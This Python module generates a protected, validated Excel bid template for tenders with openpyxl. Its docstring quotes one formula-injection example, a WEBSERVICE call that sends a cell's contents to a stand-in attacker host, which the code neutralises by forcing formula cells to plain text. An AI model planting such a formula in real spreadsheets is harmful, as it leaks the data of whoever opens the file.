"""The spreadsheet template (openpyxl): instructions, one row per answer, validated input cells.

Sheets: `Instructions`; `Bid` (tender, bidder, submitted, price); `Quality` and `Social value`
(one row per question or measure: code, title, unit, answer type, limits, guidance, evidence,
how it is scored, then the Answer and Evidence documents input cells); `Local areas` when the
tender selects `local only` measures (one row each: the postcode districts the results come from,
or what counts within a named boundary); a hidden `Lists` sheet holding choice lists. Sheets
are protected (without a password: the protection keeps the layout intact, it is not security)
and only input cells are unlocked. Input cells carry data validation: number ranges, yes/no and
choice lists, character limits.

Every text from the spec is a string cell, never a formula or an error value: a title such as
`=WEBSERVICE("https://evil.example/?"&B3)` is shown as written (with Excel's quote prefix), and
characters that XML cannot hold are shown as their codes (`\\ufffe`).

The workbook bytes are deterministic: fixed document times and zip entry times.
"""

from __future__ import annotations

import datetime
import io
import re
import textwrap
import zipfile
from typing import Any

from openpyxl import Workbook  # type: ignore[import-untyped]
from openpyxl.styles import Alignment, Font, PatternFill, Protection  # type: ignore[import-untyped]
from openpyxl.workbook.protection import WorkbookProtection  # type: ignore[import-untyped]
from openpyxl.worksheet.datavalidation import DataValidation  # type: ignore[import-untyped]

from svspec import model, words
from svspec.bids.jsontext import number
from svspec.bids.layout import (
    ANSWER_COLUMN,
    BID_SHEET,
    DISTRICTS_COLUMN,
    EVIDENCE_COLUMN,
    HEADERS,
    LOCAL_HEADERS,
    LOCAL_SHEET,
    POINTS_COLUMN,
    POUNDS_COLUMN,
    SECTION_SHEETS,
    TITLE_COLUMN,
    WORDS_COLUMN,
    column_letter,
    part_row_code,
)
from svspec.bids.rules import (
    AnswerRule,
    BidRules,
    asking,
    describe_evidence,
    describe_limits,
    describe_scoring,
    expected_kind,
)
from svspec.emit import xlsx_formulas
from svspec.kinds.answers import answer_kind
from svspec.plaintext import visible

_FIXED_TIME = datetime.datetime(2000, 1, 1, 0, 0, 0)
_INPUT_FILL = PatternFill("solid", fgColor="FFF2CC")
_HEADER_FONT = Font(bold=True)
_WIDTHS = (10, 36, 40, 28, 8, 12, 8, 10, 20, 22, 44, 28, 44)
TOTAL_LABEL = "Total so far"
ATTACHING_HEADING = "Attaching a long answer"
COMPUTED_HEADING = "The computed columns"
"""Column B of the row below the last answer, where the workbook adds up the computed columns."""


# Characters XML 1.0 cannot hold (a workbook with one is "unreadable content" to Excel), and
# line separators that some viewers take as the end of the cell's text.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff\u2028\u2029]")


def _text(value: object) -> object:
    """A value for a cell, with characters a workbook cannot hold shown as their codes."""
    if isinstance(value, str) and _NOT_XML.search(value):
        return _NOT_XML.sub(lambda match: visible(match.group()), value)
    return value


def _row(values: list[object]) -> list[object]:
    return [_text(v) for v in values]


def _strings_stay_text(wb: Workbook) -> None:
    """Make every cell openpyxl read as a formula (`=...`) or error (`#N/A`) a plain string cell.

    svspec writes no formulas into cells: each such value is spec text, which suppliers must see
    as written and which must never run (`=WEBSERVICE`, `=HYPERLINK`) when they open the template.
    """
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type in ("f", "e"):
                    cell.data_type = "s"
                    cell.quotePrefix = True


def _unlock(cell: object) -> None:
    cell.protection = Protection(locked=False)  # type: ignore[attr-defined]
    cell.fill = _INPUT_FILL  # type: ignore[attr-defined]


def _validation(rule: AnswerRule, lists: object, list_row: list[int]) -> DataValidation | None:
    answer = rule.answer
    prompt = (expected_kind(answer, rule.unit) + (f", {describe_limits(answer, rule.unit)}"
                                                  if describe_limits(answer, rule.unit) else ""))[:250]
    common = {"allow_blank": True, "showErrorMessage": True, "showInputMessage": True,
              "promptTitle": rule.code[:32], "prompt": prompt, "errorTitle": "Not a valid answer",
              "error": f"The answer for {rule.code} should be {prompt}"[:250]}
    cell = answer_kind(answer).cell(answer, number)
    if cell is None:
        return None
    formula1 = cell.formula1
    if cell.choices:
        start = list_row[0]
        for i, choice in enumerate(cell.choices):
            lists.cell(row=start + i, column=1, value=_text(choice))  # type: ignore[attr-defined]
        list_row[0] = start + len(cell.choices)
        formula1 = f"Lists!$A${start}:$A${start + len(cell.choices) - 1}"
    options = {k: v for k, v in (("operator", cell.operator), ("formula2", cell.formula2)) if v is not None}
    kind = "whole" if rule.whole and cell.type == "decimal" else cell.type  # 10.5 FTE only when apportioned
    return DataValidation(type=kind, formula1=formula1, **options, **common)


def _guidance(rule: AnswerRule) -> str:
    """The Guidance column: what the measure asks beyond its answer, then its guidance."""
    parts = [f"{label}: {text}" for label, text in asking(rule)]
    if isinstance(rule.item, model.Measure) and rule.item.local_area:
        parts.append(f"Type the districts your results come from on the {LOCAL_SHEET} sheet.")
    return "\n".join(parts + ([rule.guidance] if rule.guidance else []))


def build_workbook(tender: model.Tender) -> Workbook:
    """The template workbook for `tender`."""
    rules = BidRules.for_tender(tender)
    wb = Workbook()
    intro = wb.active
    intro.title = "Instructions"
    version = f" (version {tender.version})" if tender.version else ""
    lines = [
        f"Bid to: {tender.title}",
        f"Tender: {tender.name}{version}" + (f", closes {tender.closes}" if tender.closes else ""),
        "",
        "How to fill in this spreadsheet",
        "1. On the Bid sheet, give your organisation's name" + (" and your total price in pounds." if rules.has_price
                                                                else "."),
        "2. On the Quality and Social value sheets, answer every row in the yellow Answer column.",
        "   Numbers only (no units, no £ sign); Yes or No from the list; text within the stated limit.",
        "   Give 0 or No when you commit nothing: a blank answer is a missing answer.",
        "3. In the Evidence documents column, name the documents you send with the bid (one per line),",
        "   where the row says evidence is due with the bid.",
        *_local_instructions(rules),
        "4. Do not rename, move or delete sheets, rows or columns: answers are read by position.",
        *([f"   All text answers together: at most {tender.narrative_limit:,} {tender.narrative_unit}."]
          if tender.narrative_limit is not None else []),
        f"5. Check the bid before sending it: svspec validate {tender.name}.svspec YOUR-FILE.xlsx",
        *_attaching_lines(rules),
        *_computed_lines(),
    ]
    for text in (tender.summary, tender.guidance):
        if text:
            lines += ["", " ".join(text.split())]
    for row, text in enumerate(lines, start=1):
        intro.cell(row=row, column=1, value=_text(text))
    intro["A1"].font = Font(bold=True, size=14)
    intro["A4"].font = _HEADER_FONT
    for row, text in enumerate(lines, start=1):
        if text in (ATTACHING_HEADING, COMPUTED_HEADING):
            intro.cell(row=row, column=1).font = _HEADER_FONT
    intro.column_dimensions["A"].width = 110
    _printable(intro, repeat_header=False)
    intro.protection.sheet = True

    bid = wb.create_sheet(BID_SHEET)
    bid.append(["Field", "Answer", "Notes"])
    bid.append(["tender", tender.name, "The tender this bid answers (do not change)."])
    bid.append(["bidder", None, "Your organisation's name."])
    bid.append(["submitted", None, "Optional: when you submit, as 2027-01-10 or 2027-01-10T12:00:00Z."])
    if rules.has_price and tender.price_components:
        for c in tender.price_components:  # whole-life cost: one row per price component (issue 12 item 4)
            times = "" if c.times == 1 else f"; counted {c.times} times in the whole-life cost"
            bid.append([f"price {c.code}", None, f"{c.title}: in pounds (a number){times}."])
    elif rules.has_price:
        bid.append(["price", None, "The total price in pounds (a number)."])
    priced_rows = range(bid.max_row - max(1, len(tender.price_components)) + 1, bid.max_row + 1)
    for cell in bid[1]:
        cell.font = _HEADER_FONT
    for row in range(3, bid.max_row + 1):
        _unlock(bid.cell(row=row, column=2))
    if rules.has_price:
        price = DataValidation(type="decimal", operator="greaterThanOrEqual", formula1="0", allow_blank=True,
                               showErrorMessage=True, error="The price is a number of pounds, 0 or more.")
        bid.add_data_validation(price)
        for row in priced_rows:
            price.add(f"B{row}")
    bid.column_dimensions["A"].width = 14
    bid.column_dimensions["B"].width = 40
    bid.column_dimensions["C"].width = 70
    _printable(bid, repeat_header=True)
    bid.protection.sheet = True

    lists = wb.create_sheet("Lists")
    list_row = [1]
    plan = xlsx_formulas.plan_for(tender)
    formulas: list[tuple[object, str, str]] = []
    for section, section_rules in rules.by_section.items():
        if not section_rules:
            continue
        sheet = wb.create_sheet(SECTION_SHEETS[section])
        sheet.append(list(HEADERS))
        for cell in sheet[1]:
            cell.font = _HEADER_FONT
            cell.alignment = Alignment(wrap_text=True, vertical="top")
        sheet.freeze_panes = "C2"
        # Rows are counted here: openpyxl's `max_row` scans every cell, once per row made it quadratic.
        row = 1
        for rule in section_rules.values():
            row += 1
            answer_cell = f"{column_letter(ANSWER_COLUMN)}{row}"
            # A composite answer's own row holds no answer (its parts, below, do): nothing to compute there.
            computed = {} if rule.answer.parts else _computed(plan, rule, answer_cell)
            points = computed.get(POINTS_COLUMN)
            sheet.append(_row([
                rule.code, rule.title, None, None, None, None,
                points if points is not None and not points.startswith("=") else None,
                rule.unit or "", expected_kind(rule.answer, rule.unit),
                describe_limits(rule.answer, rule.unit) or "", _guidance(rule),
                "; ".join(rule.evidence_with_bid), _scoring_note(rule, section)]))
            for column in range(1, len(HEADERS) + 1):
                sheet.cell(row=row, column=column).alignment = Alignment(wrap_text=True, vertical="top")
            formulas += [(sheet, f"{column_letter(c)}{row}", f) for c, f in computed.items()
                         if f is not None and f.startswith("=")]
            _unlock(sheet.cell(row=row, column=EVIDENCE_COLUMN))
            if rule.answer.parts:
                row = _part_rows(sheet, rule, row)
                continue
            _unlock(sheet.cell(row=row, column=ANSWER_COLUMN))
            validation = _validation(rule, lists, list_row)
            if validation is not None:
                sheet.add_data_validation(validation)
                validation.add(answer_cell)
        formulas += _totals(sheet, row, formulas)
        for i, width in enumerate(_WIDTHS, start=1):
            sheet.column_dimensions[column_letter(i)].width = width
        _printable(sheet, repeat_header=True)
        sheet.protection.sheet = True
    _local_sheet(wb, rules, lists, list_row)
    lists.sheet_state = "hidden"
    lists.protection.sheet = True
    wb.security = WorkbookProtection(lockStructure=True)
    wb.properties.creator = "svspec"
    wb.properties.title = str(_text(f"Bid to {tender.title}"))
    _strings_stay_text(wb)
    for sheet, name, formula in formulas:
        cell = sheet[name]  # type: ignore[index]
        cell.value = formula
        cell.number_format = _FORMATS.get(cell.column, "General")
    return wb


def _attaching_lines(rules: BidRules) -> list[str]:
    """How to give a long text answer as an attached document (issue 13 item 8), when there is one."""
    if not any(r.kind.narrative for r in rules.rules):
        return []
    return [
        "",
        ATTACHING_HEADING,
        "A text answer may be a document you send with the bid: type attached: and the file name in the Answer",
        "cell (for example attached: method-statement.docx) and name the same file in the Evidence documents",
        "cell. The document keeps to the row's limit: svspec validate counts its words when a .docx, .txt or",
        ".md file of that name is beside this spreadsheet (the evaluator checks the limit of any other kind).",
    ]


def _computed_lines() -> list[str]:
    """What the computed columns are: people otherwise try to type in them, or take them for the score."""
    return [
        "",
        COMPUTED_HEADING,
        f"The Words, £ value and Points columns, and the {TOTAL_LABEL} row under them, are worked out by the",
        "spreadsheet itself as you type: the words of a text answer (the words in the cell: an attached",
        "document is counted by svspec validate), the £ social value of a commitment, and the points out of",
        "100 it adds to the bid's total (or why they cannot be known yet: marked by evaluators, compared with",
        "other bids). They are locked, so you cannot type in them, and nothing in them is read back: they are",
        "a guide, and the buyer's scoring of the whole bid is what counts.",
    ]


def _part_rows(sheet: Any, rule: AnswerRule, row: int) -> int:
    """One row per figure of a composite answer under its measure's row (whose answer cell stays
    locked: the answer is their sum); returns the last row written."""
    for part in rule.answer.parts:
        row += 1
        cash = part.unit == "£" and part.rate == 1
        unit = "£" if part.unit == "£" else part.unit
        counted = "Counted in pounds" if cash else f"Counted at {words.money(part.rate)} per {unit}"
        sheet.append(_row([part_row_code(rule.code, part.name), f"{rule.title}: {part.name}", None, None, None,
                           None, None, unit, "an amount in pounds" if cash else f"a number of {unit}", "0 or more",
                           "", "", f"{counted}, as part of {rule.code}."]))
        for column in range(1, len(HEADERS) + 1):
            sheet.cell(row=row, column=column).alignment = Alignment(wrap_text=True, vertical="top")
        _unlock(sheet.cell(row=row, column=ANSWER_COLUMN))
        validation = DataValidation(type="decimal", operator="greaterThanOrEqual", formula1="0", allow_blank=True,
                                    showErrorMessage=True, errorTitle="Not a valid answer",
                                    error=f"The answer for {part_row_code(rule.code, part.name)} is a number, "
                                          "0 or more")
        sheet.add_data_validation(validation)
        validation.add(f"{column_letter(ANSWER_COLUMN)}{row}")
    return row


# ---- local areas (issue 9 item 12): where a `local only` measure's results may come from

def _local_rules(rules: BidRules) -> list[AnswerRule]:
    """The measures counted locally only, in the tender's order: each has a row on the Local areas sheet."""
    return [r for r in rules.rules if isinstance(r.item, model.Measure)
            and (r.item.local_only or r.item.local_area or r.item.local_boundary)]


def _local_sheet(wb: Any, rules: BidRules, lists: Any, list_row: list[int]) -> None:
    """The Local areas sheet: one row per local-only measure. A measure counted in postcode districts
    (`local only in SE1, SE11`) gets an input cell for the districts its results come from, read back
    as the bid's `local:`; a measure counted within a named boundary, or locally without a named area,
    says what the supplier must do instead, with no cell to fill (YAML's `local:` takes none for it)."""
    local = _local_rules(rules)
    if not local:
        return
    sheet = wb.create_sheet(LOCAL_SHEET)
    sheet.append(list(LOCAL_HEADERS))
    for cell in sheet[1]:
        cell.font = _HEADER_FONT
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = "C2"
    for row, rule in enumerate(local, start=2):
        sheet.append(_row([rule.code, rule.title, None, *_local_words(rule)]))
        for column in range(1, len(LOCAL_HEADERS) + 1):
            sheet.cell(row=row, column=column).alignment = Alignment(wrap_text=True, vertical="top")
        area = rules.local_areas.get(rule.code)
        if area:
            _unlock(sheet.cell(row=row, column=DISTRICTS_COLUMN))
            sheet.add_data_validation(_districts_validation(rule.code, area, lists, list_row, row))
    for i, width in enumerate((10, 36, 30, 36, 60), start=1):
        sheet.column_dimensions[column_letter(i)].width = width
    _printable(sheet, repeat_header=True)
    sheet.protection.sheet = True


def _local_words(rule: AnswerRule) -> tuple[str, str]:
    """The Local area and What to write columns of one local-only measure's row."""
    item = rule.item
    assert isinstance(item, model.Measure)
    if item.local_area:
        return (", ".join(item.local_area) + " postcode districts",
                f"Optional. Type the postcode districts the results you count for {rule.code} come from, each "
                f"written as in the Local area column, separated by semicolons ({'; '.join(item.local_area[:2])}). "
                "Pick one from the drop-down or type several. Count no results from other districts.")
    if item.local_boundary:
        return (f"within {item.local_boundary}",
                f"Nothing to type here. Count for {rule.code} only results within {item.local_boundary}; "
                "your evidence should show where each result is.")
    return ("local only (no area named)",
            f"Nothing to type here. Count for {rule.code} only local results, as the tender's guidance "
            "describes them.")


def _districts_validation(code: str, area: tuple[str, ...], lists: Any, list_row: list[int],
                          row: int) -> DataValidation:
    """The drop-down of a measure's postcode districts (on the hidden Lists sheet).

    A list validation holds one value, but a supplier may name several districts separated by
    semicolons: a value off the list is met with an information message saying how to write it,
    not refused, and svspec checks each district when the bid is validated."""
    start = list_row[0]
    for i, district in enumerate(area):
        lists.cell(row=start + i, column=1, value=_text(district))
    list_row[0] = start + len(area)
    allowed = ", ".join(area)
    validation = DataValidation(
        type="list", formula1=f"Lists!$A${start}:$A${start + len(area) - 1}", allow_blank=True,
        showErrorMessage=True, errorStyle="information", showInputMessage=True, promptTitle=code[:32],
        prompt=f"One or more of {allowed}, separated by semicolons"[:250], errorTitle="Several districts?",
        error=f"Write each district as listed, separated by semicolons: one or more of {allowed}"[:250])
    validation.add(f"{column_letter(DISTRICTS_COLUMN)}{row}")
    return validation


def _local_instructions(rules: BidRules) -> list[str]:
    """The Instructions sheet's lines on local areas, when the tender has local-only measures."""
    local = _local_rules(rules)
    if not local:
        return []
    codes = ", ".join(r.code for r in local)
    line = f"Local areas: {codes} count{'s' if len(local) == 1 else ''} local results only. "
    if rules.local_areas:
        line += (f"On the {LOCAL_SHEET} sheet, type the postcode districts your results come from where there "
                 "is a yellow cell (separated by semicolons); its What to write column says what counts for each.")
    else:
        line += f"The {LOCAL_SHEET} sheet says what counts for each; there is nothing to type there."
    # Column A is 110 characters wide: longer lines would run off the printed page.
    return textwrap.wrap(line, 105, initial_indent="   ", subsequent_indent="   ")


_FORMATS = {WORDS_COLUMN: "0", POUNDS_COLUMN: '"£"#,##0.00', POINTS_COLUMN: "0.00"}


def _computed(plan: object, rule: AnswerRule, cell: str) -> dict[int, str | None]:
    """The computed columns of one answer's row: formulas (`=...`), words, or nothing."""
    from svspec.scoring import core

    assert isinstance(plan, core.Plan)
    try:
        item = plan.item(rule.code)
    except KeyError:
        item = None
    return {WORDS_COLUMN: xlsx_formulas.words_formula(rule.answer, cell),
            POUNDS_COLUMN: None if item is None else xlsx_formulas.value_formula(item, cell),
            POINTS_COLUMN: None if item is None else xlsx_formulas.points_formula(plan, item, cell)}


def _totals(sheet: object, last: int, formulas: list[tuple[object, str, str]]) -> list[tuple[object, str, str]]:
    """The row below the last answer: running totals of each computed column that has formulas."""
    used = {int(c) for c in (WORDS_COLUMN, POUNDS_COLUMN, POINTS_COLUMN)
            if any(s is sheet and name.startswith(column_letter(c)) for s, name, _f in formulas)}
    if not used or last < 2:
        return []
    total = last + 1
    sheet.cell(row=total, column=TITLE_COLUMN, value=TOTAL_LABEL).font = _HEADER_FONT  # type: ignore[attr-defined]
    return [(sheet, f"{column_letter(c)}{total}", f"=SUM({column_letter(c)}2:{column_letter(c)}{last})")
            for c in sorted(used)]


def _printable(sheet: object, *, repeat_header: bool) -> None:
    """Print on landscape pages as wide as the sheet, with the heading row on every page."""
    sheet.page_setup.orientation = "landscape"  # type: ignore[attr-defined]
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4  # type: ignore[attr-defined]
    sheet.page_setup.fitToWidth = 1  # type: ignore[attr-defined]
    sheet.page_setup.fitToHeight = 0  # type: ignore[attr-defined]
    sheet.sheet_properties.pageSetUpPr.fitToPage = True  # type: ignore[attr-defined]
    if repeat_header:
        sheet.print_title_rows = "1:1"  # type: ignore[attr-defined]


def _scoring_note(rule: AnswerRule, section: str) -> str:
    text = describe_scoring(rule)
    if rule.scoring is not None:
        text += f" Weight: {words.percent(rule.weight)} of {'quality' if section == 'quality' else 'social value'}."
    later = describe_evidence(tuple(e for e in rule.evidence if e.when != "with the bid"))
    if later:
        text += f" Evidence later: {later}."
    return text


def workbook_bytes(tender: model.Tender) -> bytes:
    """The template as .xlsx bytes, identical on every run for the same tender."""
    wb = build_workbook(tender)
    wb.properties.created = _FIXED_TIME
    wb.properties.modified = _FIXED_TIME
    buffer = io.BytesIO()
    wb.save(buffer)
    return _normalise_zip(buffer.getvalue())


def _normalise_zip(raw: bytes) -> bytes:
    """Rewrite the archive with fixed entry times (and fixed document times) so bytes are stable."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "docProps/core.xml":
                data = _fixed_core_times(data)
            entry = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o600 << 16
            target.writestr(entry, data)
    return out.getvalue()


def _fixed_core_times(data: bytes) -> bytes:
    stamp = b"2000-01-01T00:00:00Z"
    return re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)", rb"\g<1>" + stamp + rb"\g<2>", data)

